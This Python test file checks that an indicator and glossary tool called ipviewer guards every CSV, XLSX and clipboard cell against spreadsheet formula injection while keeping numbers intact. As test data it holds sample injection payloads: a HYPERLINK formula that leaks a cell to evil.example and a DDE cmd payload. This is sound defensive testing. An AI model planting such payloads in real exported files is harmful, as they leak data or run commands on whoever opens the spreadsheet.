"""No CSV or XLSX that ipviewer writes runs a formula when a spreadsheet opens it (issue 11):
every writer guards its text cells with one leading apostrophe, numbers stay numbers, and
every reader of our files takes the guard off again, so the round trip is exact."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from ipviewer.cli import cli
from ipviewer.indicator_files import read_indicator_file, write_indicator_file
from ipviewer.model import Indicator
from ipviewer.spreadsheet_cells import FORMULA_START, guard, guard_cell, needs_guard, unguard
from ipviewer.terms import Glossary, Term, read_csv

#: Cells a spreadsheet would run: a data-leaking link, DDE, arithmetic, an @-function, and
#: the same behind a tab or CR.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
#: Texts that must come back exactly although they look like a guard already.
LOOKALIKES = ["'=not a formula", "''", "'", "'quoted'", "-", "="]

PO_HEADER = (
    'msgid ""\nmsgstr ""\n"Project-Id-Version: test\\n"\n"Language: zh_CN\\n"\n'
    '"MIME-Version: 1.0\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n'
    '"Content-Transfer-Encoding: 8bit\\n"\n"Plural-Forms: nplurals=1; plural=0;\\n"\n'
)


def run(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet opening a CSV would run: a cell starting with = + - @ (after any
    tabs and CRs), unless it is a plain number."""
    text = cell.lstrip("\t\r")
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text):
        return False
    return text[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")


# -- the guard -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_guarded(text):
    assert guard(text) == "'" + text
    assert needs_guard(text) and not runs_as_formula(guard(text))
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", LOOKALIKES + ["发明专利", "150,800", "a-b", "", "x=1"])
def test_other_text_round_trips(text):
    assert unguard(guard(text)) == text


def test_numbers_are_never_guarded():
    assert guard_cell(-3.5) == -3.5 and guard_cell(-28) == -28
    assert guard_cell(Decimal("-1.50")) == Decimal("-1.50") and guard_cell(None) is None
    assert guard_cell("-3.5") == "'-3.5"  # as text it is guarded: only numbers are data


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_guard_round_trips_and_never_leaves_a_formula(text):
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not guarded.startswith(FORMULA_START)


# -- indicator files --------------------------------------------------------------------------


def hostile_rows() -> list[Indicator]:
    texts = HOSTILE + LOOKALIKES
    return [Indicator(f"row_{n}", 2024, Decimal("-3.5") if n % 2 else Decimal(n),
                         unit=text, yoy_pct=Decimal("-28.28"), label_en=text,
                         label_zh=f"{text}中文" if text else "", source=text)
            for n, text in enumerate(texts)]


def test_indicator_csv_file_guards_text_and_keeps_negative_numbers(tmp_path):
    path = tmp_path / "values.csv"
    rows = hostile_rows()
    write_indicator_file(rows, path)
    table = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    header, cells = table[0], table[1:]
    text_columns = [header.index(c) for c in ("unit", "label_en", "label_zh", "source")]
    for line in cells:
        assert not any(runs_as_formula(line[i]) for i in text_columns), line
        assert line[header.index("value")] in ("-3.5",) or line[header.index("value")].isdigit()
        assert line[header.index("yoy_pct")] == "-28.28"
    assert cells[0][header.index("label_en")] == "'" + HOSTILE[0]
    assert read_indicator_file(path) == rows


def test_indicator_xlsx_file_has_no_formula_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "values.xlsx"
    rows = [r for r in hostile_rows() if not r.label_en.startswith(("\t", "\r"))]
    write_indicator_file(rows, path)
    sheet = openpyxl.load_workbook(path)["indicators"]
    header = [c.value for c in sheet[1]]
    for line in sheet.iter_rows(min_row=2):
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and needs_guard(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        value = line[header.index("value")]
        assert value.data_type == "n" and value.value in (-3.5, *range(20))
        assert line[header.index("yoy_pct")].value == -28.28
    assert read_indicator_file(path) == rows


def test_indicator_xlsx_keeps_a_leading_tab_text_a_string(tmp_path):
    """A string cell is never run, even with a leading tab or CR; it stays a string cell.
    (A CR inside an XLSX string reads back as a line feed: XML's line-end handling; with
    lxml installed, which pikepdf brings, openpyxl writes it as &#13; and it stays a CR.)"""
    path = tmp_path / "values.xlsx"
    rows = [r for r in hostile_rows() if r.label_en.startswith(("\t", "\r"))]
    write_indicator_file(rows, path)
    sheet = openpyxl.load_workbook(path)["indicators"]
    labels = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in labels] in (["\t=1+1", "\n=1+1"], ["\t=1+1", "\r=1+1"])
    assert all(c.data_type == "s" and c.quotePrefix for c in labels)


@pytest.fixture
def hostile_report(tmp_path) -> Path:
    report = tmp_path / "report.sqlite"
    assert run("sample", "-o", report).exit_code == 0
    db = sqlite3.connect(report)
    with db:
        ids = [r[0] for r in db.execute("SELECT id FROM indicators ORDER BY id LIMIT 6")]
        for text, row_id in zip(HOSTILE, ids):
            db.execute("UPDATE indicators SET label_en = ?, label_zh = ?, unit = ?, "
                       "source_text = ?, value = '-3.5', yoy_pct = '-28.28' WHERE id = ?",
                       (text, text + "中文", text, text, row_id))
        db.execute("UPDATE nodes SET title_en = '=1+1' WHERE kind != 'paragraph'")
    db.close()
    return report


def test_indicator_csv_on_stdout_guards_text_cells(hostile_report, tmp_path):
    result = run("indicators", hostile_report, "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert rows
    for row in rows:
        for name, cell in row.items():
            assert not runs_as_formula(cell), (name, cell)
    hostile = rows[:6]
    # (a CR is also a terminal control: shown as \r on stdout, like every such character)
    assert [r["label_en"] for r in hostile] == ["'" + t.replace("\r", "\\r") for t in HOSTILE]
    assert {r["value"] for r in hostile} == {"-3.5"} and {r["yoy_pct"] for r in hostile} == {
        "-28.28"}
    assert {r["section"] for r in rows} - {""} == {"'=1+1"}
    # what `indicators import` reads back from that output: the guard comes off
    copy = tmp_path / "listed.csv"
    copy.write_text(result.stdout, encoding="utf-8")
    back = read_indicator_file(copy)
    assert [r.label_en for r in back[:5]] == HOSTILE[:5]
    assert back[5].label_en == "'\\r=1+1"  # the CR was shown as text after the guard


def test_indicator_export_command_guards_csv(hostile_report, tmp_path):
    out = tmp_path / "out.csv"
    assert run("indicators", "export", hostile_report, out).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert all(not runs_as_formula(c) for row in rows for c in row.values())
    assert [r["label_en"] for r in rows[:6]] == ["'" + t for t in HOSTILE]


# -- glossary CSV -------------------------------------------------------------------------------


def hostile_glossary(path: Path) -> Glossary:
    glossary = Glossary.new()
    for n, text in enumerate(HOSTILE[:4] + LOOKALIKES[:3]):
        glossary.add(Term(f"{text} {n}" if n % 2 else text, f"{text}术语", "patent",
                          note=text, forbidden=[f"{text}禁"], sources=[text]))
    glossary.add(Term("tab note", "备注", "patent", note="\t=1+1"))
    glossary.save(path)
    return glossary


def check_glossary_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows[1:]:
        assert not any(runs_as_formula(cell) for cell in row), row
    assert rows[1][0] == "'" + HOSTILE[0] and rows[1][1] == "'" + HOSTILE[0] + "术语"
    assert rows[-1][3] == "'\t=1+1"
    return rows


def test_glossary_csv_export_guards_and_reads_back_exactly(tmp_path):
    catalog = tmp_path / "g.po"
    glossary = hostile_glossary(catalog)
    out = tmp_path / "g.csv"
    assert run("terms", "export", out, "--catalog", catalog).exit_code == 0
    check_glossary_csv(out.read_bytes().decode("utf-8-sig"))
    strip = [(t.english, t.chinese, t.note.strip(), t.forbidden, t.sources)
             for t in glossary.terms()]
    assert [(t.english, t.chinese, t.note, t.forbidden, t.sources)
            for t in read_csv(out)] == strip
    # and `terms import` of the export into a fresh catalog gives the same terms
    fresh = tmp_path / "fresh.po"
    assert run("terms", "import", out, "--catalog", fresh).exit_code == 0
    assert [(t.english, t.chinese) for t in Glossary.load(fresh).terms()] == [
        (t.english, t.chinese) for t in glossary.terms()]


def test_glossary_csv_on_stdout_guards(tmp_path):
    catalog = tmp_path / "g.po"
    hostile_glossary(catalog)
    result = run("terms", "list", "--catalog", catalog, "--format", "csv")
    assert result.exit_code == 0
    check_glossary_csv(result.stdout)


# -- every writer -------------------------------------------------------------------------------

#: Files that create CSV writers or workbooks, and how their text cells are guarded. A new
#: writer fails this test until it is guarded (and tested above) and listed here.
WRITERS = {
    "cli/indicator_commands.py": "guard_cell",
    "indicator_files/writing.py": "_guard",
    "terms/exchange.py": "guard",
    # The table's Copy: tab-separated cells for pasting into a spreadsheet (numbers stay
    # numbers).
    "ui/table_clipboard.py": "guard_shown",
}


def test_every_csv_or_xlsx_writer_is_guarded():
    source = Path(__file__).resolve().parents[1] / "src" / "ipviewer"
    found = {}
    for path in sorted(source.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(", text):
            found[path.relative_to(source).as_posix()] = text
    assert set(found) == set(WRITERS)
    for name, guard_name in WRITERS.items():
        if guard_name:
            assert re.search(rf"\b{guard_name}\(", found[name]), name


def test_the_tables_copy_guards_formulas_but_keeps_numbers():
    from ipviewer.ui.table_clipboard import format_block, parse_block

    block = [["=HYPERLINK(\"http://x\")", "-28.28", "150,800", "+14.28"],
             ["@SUM(1)", "-2+3", "\tcmd", "patents"]]
    text = format_block(block)
    cells = [row.split("\t") for row in text.split("\n")]
    assert cells[0][0].startswith("\"'=") or cells[0][0].startswith("'=")
    assert cells[0][1:] == ["-28.28", "150,800", "+14.28"]
    assert cells[1][0] == "'@SUM(1)" and cells[1][1] == "'-2+3"
    assert parse_block(text) == block
